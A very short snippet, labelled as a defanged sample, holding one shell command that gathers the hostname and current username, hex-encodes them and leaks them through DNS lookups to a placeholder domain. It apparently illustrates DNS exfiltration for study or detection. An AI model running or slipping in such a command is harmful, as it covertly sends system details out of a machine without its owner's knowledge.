# defanged sample
a=$(hostname; whoami) && echo $a | xxd -p | while read x; do nslookup $x.a.example.invalid; done
